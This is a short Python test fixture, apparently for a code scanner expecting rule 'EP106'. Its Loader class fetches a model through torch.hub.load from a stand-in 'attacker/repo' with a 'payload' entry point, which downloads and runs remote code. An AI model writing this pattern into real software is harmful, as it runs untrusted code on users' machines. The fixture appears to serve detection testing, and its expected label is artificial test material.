# source: evalpod own (corpus before #11)
# expect: EP106
import torch


class Loader:
    def __init__(self, backend):
        self.backend = backend

    def fetch(self):
        return self.backend.hub.load("attacker/repo", "payload")


def evaluate_model(model):
    return {"n": len(Loader(torch).fetch().state_dict())}
